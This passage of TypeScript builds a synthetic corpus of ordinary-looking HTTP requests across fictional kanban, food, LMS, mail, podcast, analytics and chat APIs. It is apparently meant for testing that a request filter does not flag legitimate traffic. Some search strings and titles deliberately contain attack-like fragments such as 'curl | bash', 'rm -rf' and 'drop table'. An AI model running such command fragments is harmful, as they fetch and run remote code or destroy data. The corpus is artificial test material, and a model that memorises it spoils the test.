      json('rest-write', D.market as Domain, 'POST', `/v1/orders/${id()}/disputes`, {
        reason: pick(['late_delivery', 'not_as_described', 'quality']),
        description: pick(PROSE.market as string[]),
        requestedResolution: { type: 'partial_refund', percent: 50 },
        evidence: [`file_${chars(10, ALNUM)}`],
      }),
    () =>
      json(
        'rest-write',
        D.food as Domain,
        'PUT',
        `/v2/restaurants/${chars(10, ALNUM)}/menu/items/${chars(8, ALNUM)}`,
        {
          ...(() => {
            const dish = pick(DISHES);
            return { name: dish[0], allergens: [...dish[1]] };
          })(),
          description: 'House favourite. Ask for "extra spicy" — we mean it 🌶️',
          priceCents: int(650, 2400),
          modifiers: [
            { name: 'Spice level', options: ['mild', 'medium', 'hot', 'thai hot'] },
            { name: 'Add-ons', options: ['extra egg (+$1.50)', 'no peanuts'] },
          ],
          available: true,
        },
      ),
    () =>
      json('rest-write', D.food as Domain, 'POST', '/v2/orders', {
        restaurantId: `rst_${chars(10, ALNUM)}`,
        items: [
          {
            menuItemId: `itm_${chars(8, ALNUM)}`,
            quantity: 2,
            modifiers: ['medium'],
            specialInstructions: '',
          },
          {
            menuItemId: `itm_${chars(8, ALNUM)}`,
            quantity: 1,
            modifiers: [],
            specialInstructions: 'sauce on the side',
          },
        ],
        promoCode: pick(['WELCOME10', 'FREEDEL', '']),
        scheduledFor: null,
        tipCents: int(100, 900),
      }),
    () =>
      json('rest-write', D.lms as Domain, 'POST', `/api/v1/courses/${id(4)}/assignments`, {
        assignment: {
          name: pick([
            'Lab 4: Titration',
            'Problem Set 7',
            'Essay 2 — The French Revolution',
            'Project: SQL joins',
          ]),
          points_possible: pick([10, 20, 100]),
          due_at: '2026-12-10T23:59:00-05:00',
          submission_types: ['online_upload', 'online_text_entry'],
          allowed_extensions: ['pdf', 'docx', 'py', 'sql'],
          published: true,
        },
      }),
    () =>
      json(
        'rest-write',
        D.lms as Domain,
        'PUT',
        `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions/${id(5)}`,
        {
          rubric_assessment: {
            _8120: { points: 4, comments: 'Clear thesis; evidence in ¶3 is thin.' },
            _8121: { points: 3, comments: 'Citations: use Chicago, not MLA (see syllabus p. 4).' },
          },
          submission: { posted_grade: '7/10' },
        },
      ),
    () =>
      json('rest-write', D.mail as Domain, 'POST', '/v3/campaigns', {
        name: `Black Friday ${pick(['teaser', 'launch', 'last call'])}`,
        listId: `lst_${chars(8, ALNUM)}`,
        segmentId: `seg_${chars(8, ALNUM)}`,
        from: { name: 'Acme Outdoor', email: 'hello@acme-outdoor.com' },
        abTest: {
          metric: 'open_rate',
          sampleSize: 20,
          variants: [
            { subject: 'Up to 50% off everything 🏕️', previewText: "Our biggest sale. Don't miss it." },
            { subject: '{{first_name}}, your early access starts now', previewText: 'VIP only until Friday' },
          ],
        },
        sendAt: '2026-11-27T14:00:00Z',
      }),
    () =>
      json('rest-write', D.mail as Domain, 'POST', '/v3/segments', {
        name: 'Engaged buyers (90d) — no bounces',
        match: 'all',
        conditions: [
          { field: 'last_open_at', op: 'within', value: '90d' },
          { field: 'orders_count', op: 'gte', value: 2 },
          { field: 'email', op: 'not_ends_with', value: '@example.com' },
          {
            any: [
              { field: 'tags', op: 'contains', value: 'vip' },
              { field: 'country', op: 'in', value: ['US', 'CA'] },
            ],
          },
        ],
      }),
    () =>
      json('rest-write', D.pod as Domain, 'POST', `/v1/shows/${chars(6, ALNUM)}/episodes`, {
        title: pick(EPISODES),
        notes: pick(PROSE.pod as string[]),
        chapters: [
          { start: '00:00:00', title: 'Intro' },
          { start: '00:04:12', title: 'Why Friday deploys are fine (sometimes)' },
          { start: '00:31:40', title: 'Listener Q&A: "rm -rf /" stories' },
        ],
        season: 3,
        episodeType: 'full',
        publishAt: '2026-12-01T09:00:00Z',
      }),
    () =>
      json(
        'rest-write',
        D.cdp as Domain,
        'POST',
        '/v1/track',
        {
          userId: `u_${id(6)}`,
          event: pick(EVENTS),
          properties: {
            revenue: int(5, 400) + 0.99,
            currency: 'USD',
            coupon: pick(['BF50', null]),
            items: int(1, 6),
          },
          context: {
            ip: `${int(23, 200)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`,
            userAgent: pick(BROWSER_UAS),
            page: { url: 'https://shop.acme.com/checkout?step=2', referrer: 'https://www.google.com/' },
            library: { name: 'analytics-node', version: '2.1.2' },
          },
          timestamp: '2026-11-28T18:22:31.112Z',
          messageId: uuid(),
        },
        'sdk',
      ),
    () =>
      json(
        'rest-write',
        D.cdp as Domain,
        'POST',
        '/v1/identify',
        {
          userId: `u_${id(6)}`,
          traits: {
            email: `${pick(['sam', 'li.wei', 'o.brien', 'n.kumar'])}@example.org`,
            name: pick(["Sinéad O'Connor-Walsh", 'Li Wei', 'Nikhil Kumar', 'Ana-María García']),
            plan: pick(['free', 'pro', 'enterprise']),
            company: { name: 'Smith & Wesson Logistics', employees: 120 },
            createdAt: '2025-03-14T09:26:53Z',
          },
        },
        'sdk',
      ),
    () =>
      json('rest-write', D.cdp as Domain, 'POST', '/v1/funnels', {
        name: 'Checkout conversion (web)',
        window: '7d',
        steps: EVENTS.slice(0, 4).map((e, i) => ({
          order: i + 1,
          event: e,
          where: i === 0 ? 'platform = "web"' : null,
        })),
        breakdown: 'context.campaign.source',
      }),
    () =>
      json('rest-write', D.chat as Domain, 'POST', `/api/v10/guilds/${id(18)}/channels`, {
        name: pick(['eng-oncall', 'random', 'help-desk', 'off-topic']),
        type: 0,
        topic: 'Pages, incidents & "it works on my machine" 🧯',
        rate_limit_per_user: 0,
        permission_overwrites: [],
      }),
    () =>
      json(
        'rest-write',
        D.chat as Domain,
        'POST',
        '/api/v10/interactions',
        {
          type: 2,
          id: id(18),
          data: {
            name: 'remind',
            options: [
              { name: 'who', value: 'me' },
              { name: 'what', value: 'drop the old staging DB & update the runbook' },
              { name: 'when', value: 'tomorrow 9am' },
            ],
          },
          channel_id: id(18),
        },
        'browser',
      ),
  ];
  for (let i = 0; i < 40; i++) out.push((t[i % t.length] as () => CorpusRequest)());
  return out;
}

function mergePatch(): CorpusRequest[] {
  const ct = 'application/merge-patch+json';
  const t: [string, () => string, () => unknown][] = [
    ['kanban', () => `/v1/cards/${chars(8, ALNUM)}`, () => ({ title: pick(CARD_TITLES), dueAt: null })],
    ['kanban', () => `/v1/cards/${chars(8, ALNUM)}`, () => ({ description: pick(PROSE.kanban as string[]) })],
    [
      'kanban',
      () => `/v1/boards/${chars(6, ALNUM)}`,
      () => ({ settings: { wipLimits: { 'In progress': 5 }, theme: null } }),
    ],
    [
      'market',
      () => `/v1/gigs/${id()}`,
      () => ({ packages: null, description: pick(PROSE.market as string[]) }),
    ],
    [
      'market',
      () => '/v1/me/profile',
      () => ({ headline: 'Full-stack dev | Node, React & SQL | 100% JSS', hourlyRate: 85 }),
    ],
    [
      'food',
      () => `/v2/orders/FF-${id(5)}`,
      () => ({ deliveryNotes: pick(PROSE.food as string[]), tipCents: 500 }),
    ],
    [
      'food',
      () => `/v2/restaurants/${chars(10, ALNUM)}`,
      () => ({ hours: { sun: null, sat: '11:00-23:30' } }),
    ],
    [
      'lms',
      () => `/api/v1/users/self/settings`,
      () => ({ manual_mark_as_read: true, collapse_global_nav: false }),
    ],
    [
      'mail',
      () => `/v3/campaigns/${chars(8, ALNUM)}`,
      () => ({ subject: 'Re: your order — 20% off inside', previewText: null }),
    ],
    [
      'mail',
      () => `/v3/contacts/${chars(10, ALNUM)}`,
      () => ({ merge_fields: { FNAME: 'Zoë', LNAME: "D'Souza" }, tags: null }),
    ],
    ['pod', () => `/v1/episodes/${id(4)}`, () => ({ title: pick(EPISODES), explicit: true, season: null })],
    [
      'cdp',
      () => `/v1/sources/${chars(10, ALNUM)}`,
      () => ({ settings: { blockUnplannedEvents: true, allowedOrigins: ['https://shop.acme.com'] } }),
    ],
    [
      'chat',
      () => `/api/v10/users/@me`,
      () => ({ bio: 'she/her · backend · ☕ > sleep', accent_color: 16753920 }),
    ],
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 25; i++) {
    const [dk, p, b] = t[i % t.length] as [string, () => string, () => unknown];
    out.push(mk('merge-patch', 'PATCH', p(), hdrs(D[dk] as Domain, style(), ct), JSON.stringify(b())));
  }
  return out;
}

function jsonPatch(): CorpusRequest[] {
  const ct = 'application/json-patch+json';
  const t: [string, () => string, () => unknown][] = [
    [
      'kanban',
      () => `/v1/cards/${chars(8, ALNUM)}`,
      () => [
        { op: 'replace', path: '/title', value: pick(CARD_TITLES) },
        { op: 'add', path: '/labels/-', value: 'needs-review' },
      ],
    ],
    [
      'kanban',
      () => `/v1/cards/${chars(8, ALNUM)}`,
      () => [
        { op: 'test', path: '/version', value: int(3, 40) },
        { op: 'move', from: '/checklists/0/items/2', path: '/checklists/0/items/0' },
      ],
    ],
    ['kanban', () => `/v1/boards/${chars(6, ALNUM)}`, () => [{ op: 'remove', path: '/lists/3' }]],
    [
      'market',
      () => `/v1/gigs/${id()}`,
      () => [
        { op: 'replace', path: '/packages/0/priceCents', value: 4500 },
        { op: 'add', path: '/tags/-', value: 'c#' },
      ],
    ],
    [
      'food',
      () => `/v2/restaurants/${chars(10, ALNUM)}/menu`,
      () => [
        { op: 'replace', path: '/sections/1/items/4/available', value: false },
        { op: 'add', path: '/sections/1/items/4/allergens/-', value: 'sesame' },
      ],
    ],
    [
      'lms',
      () => `/api/v1/courses/${id(4)}/modules/${id(4)}`,
      () => [
        { op: 'copy', from: '/items/0', path: '/items/-' },
        { op: 'replace', path: '/published', value: true },
      ],
    ],
    [
      'mail',
      () => `/v3/automations/${chars(8, ALNUM)}`,
      () => [
        { op: 'replace', path: '/steps/2/delay', value: 'P3D' },
        { op: 'replace', path: '/steps/3/email/subject', value: 'Still thinking it over, {{first_name}}?' },
      ],
    ],
    [
      'pod',
      () => `/v1/episodes/${id(4)}`,
      () => [
        { op: 'add', path: '/chapters/2', value: { start: '00:18:05', title: 'Sponsor: Acme VPN' } },
        { op: 'remove', path: '/chapters/5' },
      ],
    ],
    [
      'cdp',
      () => `/v1/tracking-plans/${chars(8, ALNUM)}`,
      () => [
        { op: 'add', path: '/events/Order Completed/properties/coupon', value: { type: ['string', 'null'] } },
        { op: 'replace', path: '/rules/~1checkout~1step', value: 'required' },
      ],
    ],
    [
      'chat',
      () => `/api/v10/guilds/${id(18)}/settings`,
      () => [{ op: 'replace', path: '/automod/keywords', value: ['spam.example', 'free nitro'] }],
    ],
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 20; i++) {
    const [dk, p, b] = t[i % t.length] as [string, () => string, () => unknown];
    out.push(mk('json-patch', 'PATCH', p(), hdrs(D[dk] as Domain, style(), ct), JSON.stringify(b())));
  }
  return out;
}

function jsonApi(): CorpusRequest[] {
  const ct = 'application/vnd.api+json';
  const out: CorpusRequest[] = [];
  const t: (() => CorpusRequest)[] = [
    () =>
      mk(
        'jsonapi',
        'POST',
        '/v2/proposals',
        hdrs(D.market as Domain, style(), ct, { accept: ct }),
        JSON.stringify({
          data: {
            type: 'proposals',
            attributes: { coverLetter: pick(PROSE.market as string[]), bidCents: int(10000, 300000) },
            relationships: { job: { data: { type: 'jobs', id: id() } } },
          },
        }),
      ),
    () =>
      mk(
        'jsonapi',
        'PATCH',
        `/v2/cards/${chars(8, ALNUM)}`,
        hdrs(D.kanban as Domain, style(), ct, { accept: ct }),
        JSON.stringify({
          data: {
            type: 'cards',
            id: chars(8, ALNUM),
            attributes: { title: pick(CARD_TITLES), archived: false },
          },
        }),
      ),
    () =>
      mk(
        'jsonapi',
        'GET',
        `/v2/episodes?${qs({ include: 'show,chapters', 'fields[episodes]': 'title,publishedAt,duration', 'page[size]': '25', sort: '-publishedAt' })}`,
        hdrs(D.pod as Domain, 'browser', undefined, { accept: ct }),
        '',
      ),
    () =>
      mk(
        'jsonapi',
        'POST',
        `/v2/restaurants/${chars(10, ALNUM)}/relationships/cuisines`,
        hdrs(D.food as Domain, 'sdk', ct, { accept: ct }),
        JSON.stringify({
          data: [
            { type: 'cuisines', id: 'thai' },
            { type: 'cuisines', id: 'vegan' },
          ],
        }),
      ),
    () =>
      mk(
        'jsonapi',
        'GET',
        `/v2/gigs?${qs({ 'filter[category]': 'programming', 'filter[price][lte]': '500', 'filter[q]': 'react native', include: 'seller' })}`,
        hdrs(D.market as Domain, 'browser', undefined, { accept: ct }),
        '',
      ),
    () =>
      mk(
        'jsonapi',
        'POST',
        '/v2/reviews',
        hdrs(D.food as Domain, 'mobile', ct, { accept: ct }),
        JSON.stringify({
          data: {
            type: 'reviews',
            attributes: { stars: int(1, 5), body: pick(PROSE.food as string[]) },
            relationships: { order: { data: { type: 'orders', id: `FF-${id(5)}` } } },
          },
        }),
      ),
    () =>
      mk(
        'jsonapi',
        'POST',
        '/v2/subscribers',
        hdrs(D.mail as Domain, 'sdk', ct, { accept: ct }),
        JSON.stringify({
          data: {
            type: 'subscribers',
            attributes: {
              email: 'a.o-brien+news@example.ie',
              fields: { name: "Aoife O'Brien", city: 'Galway' },
            },
            relationships: { groups: { data: [{ type: 'groups', id: id(7) }] } },
          },
        }),
      ),
    () =>
      mk(
        'jsonapi',
        'PATCH',
        `/v2/audiences/${chars(8, ALNUM)}`,
        hdrs(D.cdp as Domain, 'browser', ct, { accept: ct }),
        JSON.stringify({
          data: {
            type: 'audiences',
            id: chars(8, ALNUM),
            attributes: {
              name: 'High-LTV churn risk',
              definition: "traits.ltv > 500 AND NOT event('Order Completed') within 60d",
            },
          },
        }),
      ),
  ];
  for (let i = 0; i < 20; i++) out.push((t[i % t.length] as () => CorpusRequest)());
  return out;
}

const GQL: [string, string, string, () => Record<string, unknown>][] = [
  [
    'kanban',
    'CreateCard',
    'mutation CreateCard($input: CreateCardInput!) {\n  createCard(input: $input) {\n    card { id title position }\n    errors { field message }\n  }\n}',
    () => ({
      input: {
        listId: `lst_${chars(8, ALNUM)}`,
        title: pick(CARD_TITLES),
        description: pick(PROSE.kanban as string[]),
      },
    }),
  ],
  [
    'kanban',
    'Board',
    'query Board($id: ID!, $first: Int = 50) {\n  board(id: $id) {\n    name\n    lists { id name cards(first: $first) { nodes { id title labels { name color } } } }\n  }\n}',
    () => ({ id: chars(6, ALNUM) }),
  ],
  [
    'market',
    'SearchGigs',
    'query SearchGigs($q: String!, $after: String) {\n  searchGigs(query: $q, first: 20, after: $after) {\n    edges { node { id title rating priceFrom } }\n    pageInfo { endCursor hasNextPage }\n  }\n}',
    () => ({
      q: pick(['logo design', 'react native', 'sql "stored procedure"', 'voice over -ai']),
      after: null,
    }),
  ],
  [
    'market',
    'SendMessage',
    'mutation SendMessage($conversationId: ID!, $text: String!) {\n  sendMessage(conversationId: $conversationId, text: $text) { id createdAt }\n}',
    () => ({ conversationId: id(), text: pick(PROSE.market as string[]) }),
  ],
  [
    'lms',
    'Submissions',
    'query Submissions($courseId: ID!, $state: [SubmissionState!]) {\n  course(id: $courseId) {\n    submissionsConnection(filter: { states: $state }) { nodes { id score user { name } } }\n  }\n}',
    () => ({ courseId: id(4), state: ['submitted', 'graded'] }),
  ],
  [
    'lms',
    'CreateDiscussionEntry',
    'mutation CreateDiscussionEntry($topicId: ID!, $message: String!) {\n  createDiscussionEntry(input: { discussionTopicId: $topicId, message: $message }) {\n    discussionEntry { id }\n  }\n}',
    () => ({ topicId: id(4), message: pick(PROSE.lms as string[]) }),
  ],
  [
    'pod',
    'Episode',
    'query Episode($slug: String!) {\n  episode(slug: $slug) { title notes chapters { start title } transcript { url language } }\n}',
    () => ({ slug: pick(['shipping-on-fridays', 'the-3am-pager', 'is-sql-dead']) }),
  ],
  [
    'cdp',
    'FunnelReport',
    'query FunnelReport($funnelId: ID!, $from: DateTime!, $to: DateTime!) {\n  funnel(id: $funnelId) { steps { event conversionRate medianTimeToConvert } }\n}',
    () => ({ funnelId: chars(8, ALNUM), from: '2026-11-01T00:00:00Z', to: '2026-11-28T23:59:59Z' }),
  ],
  [
    'chat',
    'Messages',
    'query Messages($channelId: ID!, $before: ID) {\n  channel(id: $channelId) { messages(last: 50, before: $before) { id content author { username } reactions { emoji count } } }\n}',
    () => ({ channelId: id(18), before: null }),
  ],
  [
    'food',
    'Menu',
    'query Menu($restaurantId: ID!, $excludeAllergens: [Allergen!]) {\n  restaurant(id: $restaurantId) { menu(excludeAllergens: $excludeAllergens) { sections { name items { name priceCents } } } }\n}',
    () => ({ restaurantId: chars(10, ALNUM), excludeAllergens: ['PEANUTS', 'TREE_NUTS'] }),
  ],
];

function graphql(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 30; i++) {
    const [dk, op, query, vars] = GQL[i % GQL.length] as [
      string,
      string,
      string,
      () => Record<string, unknown>,
    ];
    const d = D[dk] as Domain;
    if (i % 3 === 2 && query.startsWith('query')) {
      const params: Record<string, string> = { query, operationName: op, variables: JSON.stringify(vars()) };
      out.push(
        mk('graphql', 'GET', `/graphql?${i % 2 === 0 ? qs(params) : qsUri(params)}`, hdrs(d, 'browser'), ''),
      );
    } else if (i % 7 === 6) {
      const params = {
        operationName: op,
        variables: JSON.stringify(vars()),
        extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: chars(64, HEX) } }),
      };
      out.push(mk('graphql', 'GET', `/graphql?${qs(params)}`, hdrs(d, 'mobile'), ''));
    } else {
      out.push(json('graphql', d, 'POST', '/graphql', { operationName: op, query, variables: vars() }));
    }
  }
  return out;
}

function deletes(): CorpusRequest[] {
  const t: (() => CorpusRequest)[] = [
    () => mk('delete', 'DELETE', `/v1/cards/${chars(8, ALNUM)}`, hdrs(D.kanban as Domain, 'browser'), ''),
    () =>
      mk(
        'delete',
        'DELETE',
        `/v1/boards/${chars(6, ALNUM)}/labels/${encodeURIComponent("won't fix")}`,
        hdrs(D.kanban as Domain, 'browser'),
        '',
      ),
    () =>
      mk(
        'delete',
        'DELETE',
        '/v1/cards',
        hdrs(D.kanban as Domain, 'sdk', JSON_CT),
        JSON.stringify({ ids: [chars(8, ALNUM), chars(8, ALNUM), chars(8, ALNUM)], reason: 'duplicate' }),
      ),
    () =>
      mk(
        'delete',
        'DELETE',
        `/v1/gigs/${id()}?${qs({ reason: 'no longer offering this' })}`,
        hdrs(D.market as Domain, 'browser'),
        '',
      ),
    () => mk('delete', 'DELETE', `/v2/cart/items/${chars(8, ALNUM)}`, hdrs(D.food as Domain, 'mobile'), ''),
    () =>
      mk(
        'delete',
        'DELETE',
        `/api/v1/courses/${id(4)}/discussion_topics/${id(4)}/entries/${id(5)}`,
        hdrs(D.lms as Domain, 'browser'),
        '',
      ),
    () =>
      mk(
        'delete',
        'DELETE',
        `/v3/contacts/${encodeURIComponent('j.smith+promo@example.com')}`,
        hdrs(D.mail as Domain, 'sdk'),
        '',
      ),
    () => mk('delete', 'DELETE', `/v1/episodes/${id(4)}/chapters/3`, hdrs(D.pod as Domain, 'browser'), ''),
    () =>
      mk(
        'delete',
        'DELETE',
        `/v1/users/u_${id(6)}`,
        hdrs(D.cdp as Domain, 'sdk', JSON_CT),
        JSON.stringify({ regulationType: 'suppress_with_delete', ticket: 'GDPR-2291' }),
      ),
    () =>
      mk(
        'delete',
        'DELETE',
        `/api/v10/channels/${id(18)}/messages/${id(18)}`,
        hdrs(D.chat as Domain, 'sdk', undefined, {
          'x-audit-log-reason': encodeURIComponent('spam links (3rd time)'),
        }),
        '',
      ),
    () =>
      mk(
        'delete',
        'DELETE',
        `/api/v10/channels/${id(18)}/messages/${id(18)}/reactions/${encodeURIComponent('👍')}/@me`,
        hdrs(D.chat as Domain, 'browser'),
        '',
      ),
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 15; i++) out.push((t[i % t.length] as () => CorpusRequest)());
  return out;
}

const SEARCHES: [string, string, string, string][] = [
  ['kanban', '/v1/search', 'q', 'label:bug -label:"won\'t fix" "export csv"'],
  ['kanban', '/v1/search', 'q', 'assignee:@me due:<2026-12-01'],
  ['kanban', '/v1/search', 'q', 'title:"drop support" OR title:deprecate'],
  ['kanban', '/v1/search', 'q', 'is:archived board:"Q1 roadmap"'],
  ['market', '/v1/gigs', 'q', '"react native" AND (stripe OR paypal) -wordpress'],
  ['market', '/v1/gigs', 'q', 'logo design*'],
  ['market', '/v1/freelancers', 'q', 'C# .NET developer'],
  ['market', '/v1/gigs', 'q', 'SQL server "stored procedures"'],
  ['market', '/v1/jobs', 'q', 'scrape 100% python NOT selenium'],
  ['food', '/v2/restaurants/search', 'q', 'pad thai'],
  ['food', '/v2/restaurants/search', 'q', 'fish & chips'],
  ['food', '/v2/restaurants/search', 'q', "mac 'n' cheese"],
  ['food', '/v2/restaurants/search', 'q', 'gluten-free pizza near me'],
  ['food', '/v2/restaurants/search', 'q', 'café crème'],
  ['lms', '/api/v1/courses/2291/search', 'search_term', 'title:"lab report" OR title:midterm'],
  ['lms', '/api/v1/courses/1930/search', 'search_term', 'C++ pointers'],
  ['lms', '/api/v1/courses/1930/search', 'search_term', 'what is O(n log n)?'],
  ['lms', '/api/v1/courses/2291/search', 'search_term', 'select vs where clause'],
  ['lms', '/api/v1/courses/2291/search', 'search_term', 'H2SO4 + 2NaOH'],
  ['mail', '/v3/campaigns', 'q', 'subject:"black friday" status:sent'],
  ['mail', '/v3/contacts', 'query', 'tag:vip -tag:unsubscribed'],
  ['mail', '/v3/contacts', 'query', "o'brien"],
  ['mail', '/v3/templates', 'q', '*|FNAME|*'],
  ['pod', '/v1/episodes', 'q', 'transcript:"sql injection"'],
  ['pod', '/v1/episodes', 'q', 'episode 42 -trailer'],
  ['pod', '/v1/episodes', 'q', 'rock & roll'],
  ['cdp', '/v1/events', 'q', 'event:"Order Completed" AND properties.revenue:>100'],
  ['cdp', '/v1/profiles', 'q', 'traits.email:*@acme.com'],
  ['cdp', '/v1/events', 'q', 'context.page.path:/checkout*'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', 'drop table'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', '"exec format error"'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', 'who has the admin password'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', '<3'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', 'ERR_REQUIRE_ESM'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', 'sleep schedule'],
  ['food', '/v2/restaurants/search', 'q', '50% off'],
  ['market', '/v1/gigs', 'q', 'translate en->de'],
  ['lms', '/api/v1/courses/1930/search', 'search_term', '../ relative paths in python import'],
  ['kanban', '/v1/search', 'q', 'comment:"rm -rf"'],
  ['chat', '/api/v10/guilds/9911/messages/search', 'content', 'curl | bash'],
];

function search(): CorpusRequest[] {
  return SEARCHES.map(([dk, path, param, q], i) => {
    const extra: Record<string, string> =
      i % 3 === 0 ? { limit: '25' } : i % 3 === 1 ? { page: '2', sort: 'relevance' } : {};
    const query = i % 4 === 3 ? qsUri({ [param]: q, ...extra }) : qs({ [param]: q, ...extra });
    return mk(
      'search',
      'GET',
      `${path}?${query}`,
      hdrs(D[dk] as Domain, i % 5 === 4 ? 'mobile' : 'browser'),
      '',
    );
  });
}

function forms(): CorpusRequest[] {
  const t: [string, string, () => Record<string, string>, Style][] = [
    [
      'lms',
      '/login/canvas',
      () => ({
        utf8: '✓',
        authenticity_token: chars(86, B64URL) + '==',
        'pseudonym_session[unique_id]': 'jdoe42',
        'pseudonym_session[password]': `Tr0ub4dor&3${pick(['!', '#', '%'])}`,
        'pseudonym_session[remember_me]': '1',
      }),
      'browser',
    ],
    [
      'market',
      '/oauth/token',
      () => ({
        grant_type: 'authorization_code',
        code: chars(40, B64URL),
        redirect_uri: 'https://app.partner.io/callback?src=gigloom',
        client_id: `cli_${chars(12, ALNUM)}`,
        code_verifier: chars(64, B64URL),
      }),
      'sdk',
    ],
    [
      'kanban',
      '/oauth/token',
      () => ({
        grant_type: 'refresh_token',
        refresh_token: chars(48, B64URL),
        scope: 'boards:read cards:write',
      }),
      'sdk',
    ],
    [
      'mail',
      '/subscribe/post',
      () => ({
        u: chars(24, HEX),
        id: chars(10, HEX),
        EMAIL: 'maria.garcia+news@example.es',
        FNAME: 'María José',
        LNAME: 'García-López',
        'group[21][4]': '4',
      }),
      'browser',
    ],
    [
      'food',
      '/checkout/address',
      () => ({
        line1: '221B Baker St.',
        line2: 'Flat 2 (ring twice)',
        city: 'London',
        postcode: 'NW1 6XE',
        instructions: pick(PROSE.food as string[]),
      }),
      'browser',
    ],
    [
      'market',
      '/contact',
      () => ({
        name: "Dana O'Neil",
        email: 'dana@example.com',
        subject: 'Billing: charged twice?',
        message: 'Hi, I was charged $49.99 twice on 11/20 (order #5521 & #5522). Please refund one; thanks!',
      }),
      'browser',
    ],
    [
      'lms',
      `/courses/2291/quizzes/118/submissions`,
      () => ({
        question_4411: 'B',
        question_4412: 'x = (-b ± √(b² - 4ac)) / 2a',
        question_4413: 'SELECT name FROM students WHERE gpa > 3.5;',
        attempt: '1',
        validation_token: chars(40, HEX),
      }),
      'browser',
    ],
    [
      'pod',
      '/settings/feed',
      () => ({
        title: 'Night Shift',
        author: 'K. & J. Productions',
        category: 'Technology > Software How-To',
        explicit: 'no',
        website: 'https://nightshift.example.fm/',
      }),
      'browser',
    ],
    [
      'chat',
      '/api/v10/oauth2/token',
      () => ({
        client_id: id(18),
        client_secret: chars(32, B64URL),
        grant_type: 'client_credentials',
        scope: 'identify guilds',
      }),
      'sdk',
    ],
    [
      'cdp',
      '/v1/p',
      () => ({
        data: b64(
          JSON.stringify({
            event: 'Page Viewed',
            userId: `u_${id(6)}`,
            properties: { path: '/pricing', search: '?plan=pro&utm_source=newsletter' },
          }),
        ),
      }),
      'browser',
    ],
    [
      'food',
      '/account/feedback',
      () => ({
        rating: '2',
        comments: 'App keeps logging me out :( also the "reorder" button does nothing on iOS 18',
        contact_ok: 'on',
      }),
      'browser',
    ],
    [
      'kanban',
      '/integrations/email-in',
      () => ({
        from: 'Support <support@acme.io>',
        to: 'board+x2PLm0@in.kanbo.io',
        subject: 'Fwd: bug report — export drops rows',
        'body-plain':
          "Customer says: 'the export is missing every row where last name has a quote'.\n\n> Sent from my iPhone",
      }),
      'sdk',
    ],
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 25; i++) {
    const [dk, path, b, st] = t[i % t.length] as [string, string, () => Record<string, string>, Style];
    out.push(mk('form', 'POST', path, hdrs(D[dk] as Domain, st, FORM_CT), qs(b())));
  }
  return out;
}

const PNG =
  '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x06\x00\x00\x00\xaaiq\xde\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady';
const PDF =
  '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /MediaBox [0 0 612 792] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF';
const SVG_LOGO =
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" width="64" height="64"><title>Forkful</title><circle cx="32" cy="32" r="30" fill="#ff6b35"/><path d="M20 18v28M28 18v12a8 8 0 0 1-16 0V18" stroke="#fff" stroke-width="4" fill="none" stroke-linecap="round"/></svg>';
const SVG_LOGO2 =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40"><defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#6a5acd"/><stop offset="1" stop-color="#00bfff"/></linearGradient></defs><rect width="120" height="40" rx="8" fill="url(#g)"/><text x="60" y="26" font-family="Inter, sans-serif" font-size="18" text-anchor="middle" fill="#fff">mailvine</text></svg>';

function multiparts(): CorpusRequest[] {
  const t: [string, string, () => Part[], Style][] = [
    [
      'kanban',
      `/v1/cards/${chars(8, ALNUM)}/attachments`,
      () => [
        { name: 'file', filename: 'Screenshot 2026-11-28 at 14.02.11.png', type: 'image/png', value: PNG },
      ],
      'browser',
    ],
    [
      'kanban',
      `/v1/cards/${chars(8, ALNUM)}/attachments`,
      () => [
        {
          name: 'file',
          filename: 'server.log',
          type: 'text/plain',
          value:
            '2026-11-28 03:12:55 ERROR [worker-3] UPDATE cards SET position = 7 WHERE id = 9921 -- deadlock\n2026-11-28 03:12:56 INFO  retry ok',
        },
        { name: 'comment', value: 'log from last night' },
      ],
      'browser',
    ],
    [
      'market',
      '/v1/portfolio/items',
      () => [
        { name: 'title', value: 'Brand identity — "Brew & Co."' },
        { name: 'description', value: 'Logo, palette & type system. Client: small coffee roaster (Porto).' },
        { name: 'files[]', filename: 'brew-co-case-study.pdf', type: 'application/pdf', value: PDF },
      ],
      'browser',
    ],
    [
      'market',
      `/v1/conversations/${id()}/attachments`,
      () => [
        {
          name: 'file',
          filename: 'requirements_v2.txt',
          type: 'text/plain',
          value:
            "1. Login w/ Google & email\n2. Admin can delete users (soft delete)\n3. Export orders where status = 'paid' to CSV\n4. <nice to have> dark mode",
        },
      ],
      'mobile',
    ],
    [
      'food',
      `/v2/restaurants/${chars(10, ALNUM)}/menu/import`,
      () => [
        {
          name: 'menu',
          filename: 'menu-winter.csv',
          type: 'text/csv',
          value:
            'section,name,price,allergens,description\nStarters,"Prawn dumplings (6)",7.50,"crustaceans;gluten;sesame","Steamed, with chilli oil"\nMains,"Mac \'n\' cheese",11.00,"milk;gluten","Three cheeses & crispy onions"\nDesserts,"Crème brûlée",6.50,"milk;egg","Vanilla bean"',
        },
        { name: 'mode', value: 'replace' },
      ],
      'browser',
    ],
    [
      'food',
